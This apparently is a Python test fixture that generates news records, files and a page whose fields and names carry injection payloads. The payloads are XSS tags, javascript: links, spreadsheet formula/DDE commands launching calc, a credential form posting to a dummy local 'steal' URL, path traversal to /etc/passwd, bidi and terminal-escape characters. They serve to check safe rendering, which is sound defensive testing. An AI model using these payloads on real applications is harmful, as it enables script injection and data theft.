"""Records and a page that try everything: markup, Markdown, addresses that run, formulas, signs that turn text."""

import json
from pathlib import Path

ELSEWHERE = "http://127.0.0.2:9999"  # nobody listens there; a request to it shows in the log
ATTACKS = (
    "<script>window.PWN=1</script>",
    f"<img src={ELSEWHERE}/i.png onerror=window.PWN=1>",
    "<svg onload=window.PWN=1><style>*{display:none}</style>",
    "</script></title></style><script>window.PWN=1</script>",
    f"![picture]({ELSEWHERE}/m.png) [here](javascript:window.PWN=1)",
    f":red[stop] :material/home: $x^2$ `code` <{ELSEWHERE}/auto>",
    f'<a href="javascript:window.PWN=1">go</a> <b>bold</b> <a href="{ELSEWHERE}/a">out</a>',
    "%{customdata} %{x} ${window.PWN=1} {{window.PWN=1}} <extra>box</extra><br>line",
    f'=HYPERLINK("{ELSEWHERE}/f","open")',
    "+1+cmd|' /C calc'!A0",
    "\u202egnp.exe \u2066inner\u2067 \u200bzero\u200dwidth\ufeff",
    "W" * 10_000,
    "' onmouseover='window.PWN=1' x=\" onfocus=window.PWN=1 autofocus \"",
    "__proto__ constructor ~ null",
)
# Tried by `make deep` alone, with the others.
MORE = (
    f"<iframe src={ELSEWHERE}/frame srcdoc='<script>parent.PWN=1</script>'></iframe><object data={ELSEWHERE}/o>",
    f"<form action={ELSEWHERE}/steal><input name=a autofocus onfocus=window.PWN=1><button>Sign in</button></form>",
    f"<base href={ELSEWHERE}/><meta http-equiv=refresh content='0;url={ELSEWHERE}/m'>",
    f"<link rel=stylesheet href={ELSEWHERE}/c><style>p {{background: url({ELSEWHERE}/b)}}</style>",
    "[data](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+) <a href='data:text/html,<script>1</script>'>x</a>",
    "&lt;script&gt;window.PWN=1&lt;/script&gt; &#x3c;b&#x3e; &amp;amp; &nbsp; &zwj;",
    f"$$\\href{{javascript:window.PWN=1}}{{x}}$$ \\includegraphics{{{ELSEWHERE}/l}} <math><mtext></textarea><mglyph>",
    "\u202e\u2067\u202dunclosed \u200f\u061cmarks \u2028line\u2029paragraph \u0085next",
    "Z\u0351\u036b\u0343\u036a\u0302 \u200b\u200b\u200b \U000e0041\U000e0042 \ufff9\ufffb",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "../../../etc/passwd\\..\\win.ini %2e%2e%2f file:///etc/passwd",
    "\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x7f",
)
DAYS = 36  # so many records that the pages draw lines; a filter leaves few, and they draw dots
PAGE = "<img src=x onerror=window.PWN=1> ![a](b) $x$.txt"
NAMES = ("\u202egnp.exe\u2066.txt", "=cmd|' %2e%2e.csv", "a'b\"c &lt;i&gt;;--.html", "W" * 200 + ".txt")


def record(day: int, attacks: tuple[str, ...] = ATTACKS) -> dict[str, str]:
    """One story with an attack in every field; its words make marks of two themes."""
    attack = attacks[day % len(attacks)]
    return {
        "id": f"{day}{attack}",
        "outlet": attack if day % 3 else "Example Times",
        "date": f"2025-{day // 28 + 1:02d}-{day % 28 + 1:02d}",
        "title": attack,
        "author": attack,
        "url": f"javascript:window.PWN=1//{day}" if day % 2 else f'{ELSEWHERE}/"onclick="window.PWN=1',
        "text": f"The two sides want a multipolar world {attack} and more trade.\n{attack}\nTrade tariffs rose {day}.",
    }


def write(folder: Path, *, all_of_them: bool = False) -> Path:
    """A folder with the records and a page whose very name is an attack; with more attacks and names when asked."""
    attacks = ATTACKS + MORE if all_of_them else ATTACKS
    lines = [json.dumps(record(day, attacks), ensure_ascii=day % 2 == 0) for day in range(DAYS)]
    (folder / "records.jsonl").write_text("\n".join(lines), encoding="utf-8")
    body = "\n\n".join(f"The ports signed a trade agreement {attack} on Monday." for attack in attacks)
    for name in NAMES if all_of_them else ():
        head = "title,text,outlet\n" if name.endswith(".csv") else ""
        text = '"=1+1","A multipolar trade story ""=2+2"" of many words, told once.","@outlet"\n'
        (folder / name).write_text(head + (text if head else f"A story about trade\n\n{text * 12}"), encoding="utf-8")
    (folder / PAGE).write_text(f"{ATTACKS[0]}\n\nBy {ATTACKS[1]}\n2025-03-01\n\n{body}\n", encoding="utf-8")
    return folder
